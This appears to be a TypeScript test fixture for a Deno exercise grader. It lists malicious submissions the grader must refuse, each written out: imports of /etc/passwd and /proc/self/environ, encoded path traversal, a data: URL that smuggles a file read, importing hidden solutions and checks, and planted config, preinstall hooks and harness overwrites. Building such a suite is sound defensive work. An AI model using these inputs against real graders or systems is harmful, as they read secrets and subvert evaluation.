/**
 * Imports of what is no part of the exercises.
 *
 * A process without permissions still reads whatever a *static* import names, as text or bytes.
 *
 * @module
 */

import type { Attack } from "./attack.ts";

const REFUSED =
  /was not run: it imports ".*"(, which is (not in|no part of) the exercises| as (text|bytes|json))$/;

/** The import at the beginning of a file that is solved: nothing of it is run. */
const importing = (
  name: string,
  wants: string,
  before: string,
  says: RegExp = REFUSED,
): Attack => ({ name, wants, before, says });

export const importingFiles: readonly Attack[] = [
  importing(
    "imports a file of the system as text",
    "any file, in spite of --deny-read",
    'import secret from "/etc/passwd" with { type: "text" };',
  ),
  importing(
    "imports a file of the system as bytes, by its address",
    "the same",
    'import secret from "file:///etc/hostname" with { type: "bytes" };',
  ),
  importing(
    "imports the solution",
    "the right answers",
    'export * from "../../../solutions/q1/01-a-scalar-cell/scalar_cell.ts";',
  ),
  importing(
    "imports the checks",
    "the expected values",
    'import { scalarCell } from "../../../checks/q1/scalar_cell.ts";',
  ),
  importing(
    "imports the harness",
    "the functions that read and write the frames",
    'import { writeFrame } from "../../../harness/pipes.ts";',
  ),
  importing(
    "imports the module that runs it",
    "to run it once more",
    'import "../../../entry.ts";',
  ),
  importing(
    "imports the import map",
    "to learn where everything is",
    'import map from "../../../map.json" with { type: "json" };',
    /was not run: it imports .* as json/,
  ),
  importing(
    "imports a device",
    "a reader that never comes to the end of /dev/zero",
    'import zero from "/dev/zero" with { type: "bytes" };',
  ),
  importing(
    "imports what the system knows of its process",
    "secrets in the environment",
    'import env from "/proc/self/environ" with { type: "text" };',
  ),
  importing(
    "imports by a literal in import()",
    "the same, later",
    'const later = () => import("/etc/passwd", { with: { type: "text" } });',
  ),
  importing(
    "writes the dots of its path in another way",
    "a way out that is not recognised",
    'import secret from "./%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd" with { type: "text" };',
  ),
  importing(
    "writes slashes the other way round",
    "the same",
    'import secret from ".\\\\..\\\\..\\\\..\\\\..\\\\..\\\\etc\\\\passwd" with { type: "text" };',
    /was not run: it imports/,
  ),
  importing(
    "imports a built-in module",
    "a file system of Node's",
    'import fs from "node:fs";',
  ),
  importing(
    "imports a package",
    "a library that does the work",
    'import * as tf from "npm:@tensorflow/tfjs";',
    /was not run: it (imports|cannot be read)/,
  ),
  importing(
    "imports a package by the name that the course uses",
    "the same, in a lesson that has no need of it",
    'import * as tf from "@tensorflow/tfjs";',
  ),
  importing(
    "imports from the network",
    "the answers from its own server, and to tell it the questions",
    'import answers from "https://example.com/answers.js";',
    /was not run: it (imports|cannot be read)/,
  ),
  importing(
    "imports from a registry",
    "the same",
    'import { assert } from "jsr:@std/assert@1";',
    /was not run: it (imports|cannot be read)/,
  ),
  importing(
    "imports code out of its own address, which imports a file",
    "a module that nobody looks into",
    `import "data:text/javascript,import s from 'file:///etc/passwd' with { type: 'text' };";`,
    /was not run: it imports/,
  ),
  {
    name: "imports its own file once more, under another name",
    wants: "a copy of the module that is not checked: it has its own file, and nothing else",
    before: 'import * as again from "./scalar_cell.ts?again";',
  },
  importing(
    "names a file in a comment for the compiler",
    "a file that is read for its types",
    '/// <reference path="/etc/passwd" />\n// @ts-types="/etc/passwd"\nimport "../../kit/matrix.ts";',
    /was not run: it imports/,
  ),
  {
    name: "hands in a configuration, a lock file and packages of its own",
    wants: "other meanings for the names that it imports, and permissions",
    others: {
      "deno.json":
        '{"imports": {"../../kit/random.ts": "./evil.ts"}, "permissions": {"all": true}}',
      "deno.lock": "{}",
      "package.json": '{"type": "commonjs", "scripts": {"preinstall": "touch /tmp/owned"}}',
      "node_modules/evil/index.js": "Deno.exit(0);",
      "lessons/q1/01-a-scalar-cell/deno.json": '{"compilerOptions": {"types": ["/etc/passwd"]}}',
      "map.json": '{"imports": {}}',
    },
  },
  {
    name: "hands in files where the grader has its own",
    wants: "to be the harness, the kit, or a file anywhere",
    others: {
      "entry.ts": "Deno.exit(0);",
      "harness/harness.ts": "export const serve = () => Deno.exit(0);",
      "lessons/kit/matrix.ts": "throw new Error();",
      "../../../../../../tmp/unrolled-owned": "owned",
      "/tmp/unrolled-owned": "owned",
    },
  },
];
